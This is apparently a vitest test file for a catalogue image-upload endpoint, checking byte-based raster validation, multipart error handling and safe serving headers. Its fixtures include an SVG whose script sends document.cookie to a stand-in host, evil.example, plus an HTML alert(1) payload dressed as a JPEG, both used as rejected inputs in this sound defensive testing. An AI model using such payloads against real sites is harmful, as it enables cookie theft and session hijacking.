// Product image upload (security finding "SVG upload runs script"): only raster images, judged by
// their bytes; nothing stored on a rejection; malformed multipart is a 400 envelope; uploads are
// served with nosniff and a sandboxing CSP. Also the generated pictures of seeded products (issue 14
// item 10): the drawing of the product's type in its colour, named by the product.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { createTestPlatform, type TestPlatform } from '@armatura/deploy/testing';
import { sql } from '@armatura/shared-libs/server';
import { paintOf } from './kinds.js';

let p: TestPlatform;
let sales: string;
const CREATE = '/api/services/app/Product/CreateImage';
// A real 1×1 transparent PNG.
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2b9b10000000049454e44ae426082',
  'hex',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?c="+document.cookie)</script></svg>',
);

beforeAll(async () => {
  p = await createTestPlatform();
  sales = await p.login('sprzedaz');
});
afterAll(async () => {
  await p?.close();
});

function multipart(
  fields: Record<string, string>,
  file?: { name: string; type: string; data: Buffer; field?: string },
) {
  const boundary = '----armatura' + Math.random().toString(16).slice(2);
  const parts: Buffer[] = Object.entries(fields).map(([k, v]) =>
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`),
  );
  if (file)
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`,
      ),
      file.data,
      Buffer.from('\r\n'),
    );
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    payload: Buffer.concat(parts),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

const uploadsDir = () => join(p.ctx.config.dataDir, 'uploads', 'catalog');
const storedFiles = async () => (await readdir(uploadsDir()).catch(() => [] as string[])).sort();
const imageRows = async () =>
  (
    (await sql`select count(*)::int as n from catalog.product_images`.execute(p.ctx.db))
      .rows[0] as { n: number }
  ).n;

async function expectRejectedAndNothingStored(
  request: { payload: Buffer; headers: Record<string, string> },
  message?: string | RegExp,
) {
  const files = await storedFiles();
  const rows = await imageRows();
  const res = await p.call({ method: 'POST', url: CREATE, token: sales, ...request });
  expect(res.status).toBe(400);
  expect(res.body).toMatchObject({ success: false, result: null, __abp: true });
  if (message) expect(res.body.error.message).toMatch(message);
  expect(await storedFiles()).toEqual(files);
  expect(await imageRows()).toBe(rows);
  return res;
}

describe('CreateImage accepts only raster images, judged by their bytes', () => {
  it('rejects an SVG with a script (400, Polish message, nothing stored)', async () => {
    await expectRejectedAndNothingStored(
      multipart({ productId: '1' }, { name: 'zdjecie.svg', type: 'image/svg+xml', data: SVG }),
      'Dozwolone są tylko obrazy JPEG, PNG, WebP, AVIF lub GIF.',
    );
  });

  it('rejects an SVG that claims to be a PNG by its name and declared type', async () => {
    await expectRejectedAndNothingStored(
      multipart({ productId: '1' }, { name: 'zdjecie.png', type: 'image/png', data: SVG }),
      'Dozwolone są tylko obrazy JPEG, PNG, WebP, AVIF lub GIF.',
    );
  });

  it('accepts a PNG renamed .svg with an SVG content type, stores and serves it as image/png', async () => {
    const res = await p.call({
      method: 'POST',
      url: CREATE,
      token: sales,
      ...multipart(
        { productId: '1', alt: 'Widok', sort: '2' },
        { name: 'a.svg', type: 'image/svg+xml', data: PNG },
      ),
    });
    expect(res.status).toBe(200);
    expect(res.body.result).toMatchObject({ productId: 1, alt: 'Widok', sort: 2 });
    expect(res.body.result.url).toMatch(/^\/api\/catalog\/uploads\/[0-9a-f-]{36}\.png$/);
    const file = await p.app.inject({ method: 'GET', url: res.body.result.url });
    expect(file.statusCode).toBe(200);
    expect(file.rawPayload.equals(PNG)).toBe(true);
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-security-policy']).toBe(
      "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox",
    );
    expect(file.headers['content-disposition']).toBeUndefined();
  });

  it('accepts JPEG, WebP, AVIF and GIF signatures', async () => {
    const samples: Record<string, string> = {
      jpg: 'ffd8ffe000104a46494600010100000100010000ffd9',
      webp: '524946461a000000574542505650384c0d0000002f0000000007d0ff0100',
      avif: '00000020667479706176696600000000617669666d6966316d6961664d413142',
      gif: '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
    };
    for (const [ext, hex] of Object.entries(samples)) {
      const res = await p.call({
        method: 'POST',
        url: CREATE,
        token: sales,
        ...multipart(
          { productId: '1' },
          { name: 'x.bin', type: 'application/octet-stream', data: Buffer.from(hex, 'hex') },
        ),
      });
      expect(res.status, ext).toBe(200);
      expect(res.body.result.url.endsWith(`.${ext}`), ext).toBe(true);
    }
  });

  it('rejects HTML and text dressed as images, and an empty file', async () => {
    await expectRejectedAndNothingStored(
      multipart(
        { productId: '1' },
        {
          name: 'a.jpg',
          type: 'image/jpeg',
          data: Buffer.from('<html><script>alert(1)</script></html>'),
        },
      ),
    );
    await expectRejectedAndNothingStored(
      multipart({ productId: '1' }, { name: 'a.gif', type: 'image/gif', data: Buffer.alloc(0) }),
    );
  });
});

describe('CreateImage validates the multipart request', () => {
  it('answers bad productId, sort and alt with a 400 naming the field', async () => {
    for (const [fields, member] of [
      [{}, 'productId'],
      [{ productId: 'abc' }, 'productId'],
      [{ productId: '0' }, 'productId'],
      [{ productId: '1e3' }, 'productId'],
      [{ productId: '99999999999999999999' }, 'productId'],
      [{ productId: '1', sort: '-1' }, 'sort'],
      [{ productId: '1', sort: '1.5' }, 'sort'],
      [{ productId: '1', alt: 'x'.repeat(301) }, 'alt'],
    ] as const) {
      const res = await expectRejectedAndNothingStored(
        multipart(fields as Record<string, string>, {
          name: 'a.png',
          type: 'image/png',
          data: PNG,
        }),
      );
      expect(res.body.error.validationErrors?.[0]?.members, JSON.stringify(fields)).toEqual([
        member,
      ]);
    }
  });

  it('answers an unknown product with 404 and stores nothing', async () => {
    const files = await storedFiles();
    const res = await p.call({
      method: 'POST',
      url: CREATE,
      token: sales,
      ...multipart({ productId: '2147483647' }, { name: 'a.png', type: 'image/png', data: PNG }),
    });
    expect(res.status).toBe(404);
    expect(await storedFiles()).toEqual(files);
  });

  it('answers malformed multipart (no boundary, no file, cut-off body, two files, not multipart) with a 400 envelope', async () => {
    const ok = multipart({ productId: '1' }, { name: 'a.png', type: 'image/png', data: PNG });
    await expectRejectedAndNothingStored({
      payload: ok.payload,
      headers: { 'content-type': 'multipart/form-data' },
    });
    await expectRejectedAndNothingStored(multipart({ productId: '1' }), /Dołącz plik obrazu/);
    await expectRejectedAndNothingStored(
      multipart(
        { productId: '1' },
        { name: 'a.png', type: 'image/png', data: PNG, field: 'other' },
      ),
    );
    await expectRejectedAndNothingStored({
      payload: ok.payload.subarray(0, ok.payload.length - 60),
      headers: ok.headers,
    });
    await expectRejectedAndNothingStored({
      payload: Buffer.from('garbage without any boundary'),
      headers: ok.headers,
    });
    const boundary = ok.headers['content-type'].split('boundary=')[1]!;
    const twoFiles = Buffer.concat([
      ok.payload.subarray(0, ok.payload.length - boundary.length - 6),
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="b.png"\r\nContent-Type: image/png\r\n\r\n`,
      ),
      PNG,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    await expectRejectedAndNothingStored({ payload: twoFiles, headers: ok.headers });
    await expectRejectedAndNothingStored({
      payload: Buffer.from('{"productId":1}'),
      headers: { 'content-type': 'application/json' },
    });
  });
});

describe('generated pictures of seeded products', () => {
  it('draw the product type in its colour, named by the product, and the image rows say its name', async () => {
    const product = (
      await sql<{ id: number; name: string; colour: string; slug: string }>`
        select p.id, p.name, a.attr_value as colour, c.slug
        from catalog.products p
        join catalog.product_attributes a on a.product_id = p.id and a.attr_name = 'Kolor'
        join catalog.product_categories pc on pc.product_id = p.id
        join catalog.categories c on c.id = pc.category_id
        where p.tenant_id = 1 and c.slug in ('umywalki', 'baterie-umywalkowe')
        order by p.id limit 1`.execute(p.ctx.db)
    ).rows[0]!;
    const res = await p.call({ method: 'GET', url: `/api/catalog/images/${product.id}/1.svg` });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^image\/svg\+xml/);
    const svg = res.body as string;
    expect(svg).toContain(`data-kind="${product.slug === 'umywalki' ? 'washbasin' : 'tap'}"`);
    expect(svg).toContain(`<title>${product.name.replace(/&/g, '&amp;')}</title>`);
    expect(svg).toContain(paintOf(product.colour));
    expect(svg).not.toMatch(/zdjęcie/i);

    const images = await p.call({
      method: 'GET',
      url: `/api/services/app/Product/GetImages?productId=${product.id}`,
      token: sales,
    });
    // Generated pictures only: tests above upload to the first products.
    const generated = images.body.result.filter((i: { url: string }) =>
      i.url.startsWith(`/api/catalog/images/${product.id}/`),
    );
    expect(generated.length).toBeGreaterThan(0);
    for (const image of generated) expect(image.alt).toBe(product.name);
  });

  it('answers a product of another tenant or none with 404', async () => {
    const res = await p.call({ method: 'GET', url: '/api/catalog/images/999999/1.svg' });
    expect(res.status).toBe(404);
  });
});
